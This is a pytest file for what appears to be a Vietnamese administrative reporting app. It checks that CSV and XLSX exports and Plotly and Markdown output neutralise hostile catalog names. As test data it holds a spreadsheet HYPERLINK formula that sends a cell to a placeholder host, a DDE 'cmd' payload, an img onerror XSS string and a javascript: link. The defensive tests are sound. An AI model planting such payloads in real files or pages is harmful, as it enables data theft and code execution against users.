"""Text from data files stays text: a procedure or field named like a formula is a plain cell
in every CSV and XLSX (page downloads and `python -m reports`), and names with markup are
escaped for Plotly and Markdown. The hostile names go through the real ETL."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date
from pathlib import Path

import plotly.graph_objects as go
import polars as pl
import pytest

from etl.load import load_files
from metrics.catalog import procedure_activity
from metrics.connection import snapshot
from metrics.filters import Filters
from metrics.options import filter_options
from present.safe_text import markdown_text, plain_figure, plotly_text
from present.tables import Column, kinds, labelled
from reports.__main__ import main as reports_main
from reports.header import HeaderBlock, header_block
from reports.writers import csv_bytes, xlsx_bytes
from tests.exports import (
    CATALOG_HEADER,
    CATALOG_ROWS,
    VI_LABELS,
    application,
    table,
    write_csv,
)

FORMULA_NAME = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'
FORMULA_FIELD = "+cmd|' /C calc'!A0"
PERIOD = (date(2025, 7, 1), date(2025, 7, 31))
COLUMNS = (
    Column("procedure_code", "col.procedure_code", "text"),
    Column("name", "col.procedure_name", "text"),
    Column("field", "col.field", "text"),
    Column("received", "col.received", "count"),
)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A warehouse whose catalog names a procedure and a field like spreadsheet formulas."""
    folder = tmp_path_factory.mktemp("formula")
    rows = [list(row) for row in CATALOG_ROWS]
    rows[0][1], rows[0][2] = FORMULA_NAME, FORMULA_FIELD
    catalog = write_csv(folder / "danh-muc.csv", [CATALOG_HEADER, *rows])
    exports = write_csv(folder / "ho-so.csv", table([application("F1")], VI_LABELS))
    db = folder / "warehouse.duckdb"
    results = load_files([catalog, exports], db)
    assert all(r.rows_loaded == r.rows_read for r in results)
    return db


def _page_frame(db: Path) -> tuple[Filters, pl.DataFrame, HeaderBlock]:
    """The procedures page's table and the header block its download buttons write."""
    filters = Filters(*PERIOD)
    with snapshot(db) as con:
        frame = labelled(procedure_activity(con, filters), COLUMNS, "vi")
        options = filter_options(con)
    return filters, frame, header_block("Thủ tục", filters, options, "Thành phố Hải Phòng", "vi")


def _csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def _xlsx_formulas_and_strings(content: bytes) -> tuple[list[str], str]:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        formulas = [f for n in sheets for f in re.findall(r"<f[ >]", book.read(n).decode())]
        strings = book.read("xl/sharedStrings.xml").decode() if (
            "xl/sharedStrings.xml" in book.namelist()
        ) else "".join(book.read(n).decode() for n in sheets)  # fmt: skip
    return formulas, strings


def test_the_etl_keeps_the_names_as_written(hostile: Path) -> None:
    _, frame, _ = _page_frame(hostile)
    assert FORMULA_NAME in frame["Tên thủ tục"].to_list()
    assert FORMULA_FIELD in frame["Lĩnh vực"].to_list()


def test_a_page_csv_download_quotes_formula_like_cells(hostile: Path) -> None:
    _, frame, header = _page_frame(hostile)
    cells = _csv_cells(csv_bytes(frame, {}))
    assert "'" + FORMULA_NAME in cells and "'" + FORMULA_FIELD in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]


def test_a_page_xlsx_download_writes_them_as_text(hostile: Path) -> None:
    _, frame, header = _page_frame(hostile)
    formulas, strings = _xlsx_formulas_and_strings(xlsx_bytes(frame, header, kinds(COLUMNS, "vi")))
    assert formulas == []
    assert "=HYPERLINK(" in strings and "+cmd|" in strings


def test_the_report_commands_write_no_formula(
    hostile: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("WAREHOUSE_PATH", str(hostile))
    bieu = tmp_path / "bieu.xlsx"
    league = tmp_path / "xep-hang.csv"
    period = ["--from", "2025-07-01", "--to", "2025-07-31"]
    assert reports_main(["bieu-06a", *period, "--out", str(bieu)]) == 0
    assert reports_main(["league-table", *period, "--out", str(league)]) == 0
    formulas, strings = _xlsx_formulas_and_strings(bieu.read_bytes())
    assert formulas == [] and "+cmd|" in strings  # the field is a row of the form
    assert not [c for c in _csv_cells(league.read_bytes()) if c[:1] in ("=", "+", "-", "@")]


def test_plotly_gets_names_as_entities_and_keeps_its_own_markup() -> None:
    figure = go.Figure(layout={"title": {"text": "<b>x</b>", "subtitle": {"text": "a<br>b"}}})
    figure.add_trace(go.Bar(y=["<img src=x onerror=alert(1)>", "A & B"], x=[1, 2], text=["1", "2"]))
    figure.add_trace(go.Scatter(x=[1], y=[2], hovertemplate="%{y}<br><extra></extra>"))
    plain_figure(figure)
    assert figure.data[0].y == ("&lt;img src=x onerror=alert(1)&gt;", "A &amp; B")
    assert figure.layout.title.text == "&lt;b&gt;x&lt;/b&gt;"
    assert figure.layout.title.subtitle.text == "a&lt;br&gt;b"
    assert figure.data[1].hovertemplate == "%{y}<br><extra></extra>"  # the app's own
    assert plotly_text("<b>") == "&lt;b&gt;"


def test_markdown_text_turns_markup_into_literal_characters() -> None:
    assert markdown_text("[bấm](javascript:alert(1))") == "\\[bấm\\]\\(javascript\\:alert\\(1\\)\\)"
    assert markdown_text("**đậm** :material/home: $x$") == (
        "\\*\\*đậm\\*\\* \\:material/home\\: \\$x\\$"
    )
    assert markdown_text("Hồng Bàng") == "Hồng Bàng"
